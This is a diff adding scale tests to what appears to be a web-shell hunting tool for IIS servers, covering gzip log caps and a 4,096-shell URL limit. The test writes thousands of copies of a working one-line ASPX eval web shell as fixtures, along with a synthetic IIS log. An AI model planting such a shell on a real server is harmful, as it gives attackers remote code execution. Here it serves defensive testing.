@@ -10,7 +10,11 @@
 #      the time (it took 26x for 4x the input when each request searched
 #      every kept record), and every request is a finding;
 #   3. a shell 50 folders deep and 20 MB of /a/a/a... lines: a few seconds
-#      at most (line-by-line search cost 6 s).
+#      at most (line-by-line search cost 6 s);
+#   4. requests to a shell on disk in a .gz log obey --max-gz-bytes (the old
+#      second pass read every .gz whole);
+#   5. 4,096 shells on disk: requests to each are found, no error; 4,097:
+#      an error shell-urls-capped that counts the one left out.
 # The trees are generated at test time (make_scale.py).
 set -u
 EXHUNT=$(realpath "$1")
@@ -118,6 +122,49 @@ limit=5
 [ "$BUILD" = asan ] && limit=30
 python3 -c "import sys; sys.exit(0 if $secs < $limit else 1)" || bad "deep shell: $secs s (limit $limit)"
 grep -q '"path":"[^"]*/a/a/a/x.aspx"' "$T/deep.jsonl" || bad "deep shell: the shell itself was not found"
+
+# --- 4. hunt's shell requests obey the gzip caps ----------------------------------
+# (the old second pass read every .gz log whole, whatever --max-gz-bytes said)
+python3 "$GEN" "$T/gz" disk 20000
+gzip -9 "$T/gz/inetpub/logs/LogFiles/W3SVC1/u_ex210303.log"
+"$EXHUNT" hunt "${COLL[@]}" --max-gz-bytes 1M -f jsonl -o "$T/gz.jsonl" "$T/gz" 2>/dev/null
+got=$(grep -c '"rule":"exhunt.hunt.request_to_shell"' "$T/gz.jsonl")
+grep -q '"what":"gzip-limit"' "$T/gz.jsonl" || bad "--max-gz-bytes: no gzip-limit error"
+if [ "$got" -le 0 ] || [ "$got" -ge 20000 ]; then
+  bad "--max-gz-bytes 1M: $got requests to the shell reported (want some, not all 20000)"
+fi
+echo "--max-gz-bytes 1M: $got of 20000 requests read before the cap"
+
+# --- 5. shell URLs: 4096 are all looked for; the 4097th is an error saying so ------
+for n in 4096 4097; do
+  mkdir -p "$T/many$n/inetpub/wwwroot/s" "$T/many$n/inetpub/logs/LogFiles/W3SVC1"
+  python3 - "$T/many$n" "$n" <<'PY'
+import os, sys
+root, n = sys.argv[1], int(sys.argv[2])
+shell = '<%@ Page Language="Jscript"%><%eval(Request.Item["z"],"unsafe");%>\n'
+for i in range(n):
+    with open(os.path.join(root, "inetpub/wwwroot/s", f"s{i}.aspx"), "w") as f:
+        f.write(shell)
+with open(os.path.join(root, "inetpub/logs/LogFiles/W3SVC1/u_ex210303.log"), "w") as f:
+    f.write("#Software: Microsoft Internet Information Services 10.0\n#Fields: date time s-ip "
+            "cs-method cs-uri-stem cs-uri-query s-port cs-username c-ip cs(User-Agent) "
+            "cs(Referer) sc-status sc-substatus sc-win32-status time-taken\n")
+    for i in range(n):
+        f.write(f"2021-03-03 01:00:00 192.0.2.10 POST /s/s{i}.aspx - 443 - 198.51.100.7 x - 200 0 0 1\n")
+PY
+  "$EXHUNT" hunt "${COLL[@]}" -f jsonl -o "$T/many$n.jsonl" "$T/many$n" 2>/dev/null
+  caps=$(grep -c '"what":"shell-urls-capped"' "$T/many$n.jsonl")
+  reqs=$(grep -c '"rule":"exhunt.hunt.request_to_shell"' "$T/many$n.jsonl")
+  echo "$n shells on disk: $reqs requests found, shell-urls-capped x$caps"
+  if [ "$n" = 4096 ]; then
+    [ "$caps" -eq 0 ] || bad "4096 shells: shell-urls-capped at exactly the cap"
+    [ "$reqs" -eq 4096 ] || bad "4096 shells: $reqs requests found"
+  else
+    grep -q '"what":"shell-urls-capped".*1 web shells with a URL past the first 4096' "$T/many$n.jsonl" ||
+      bad "4097 shells: no shell-urls-capped error counting the one left out"
+    [ "$reqs" -eq 4096 ] || bad "4097 shells: $reqs requests found"
+  fi
+done
 
 if [ "$fail" -ne 0 ]; then
   echo "scale_tests: $fail failure(s)"
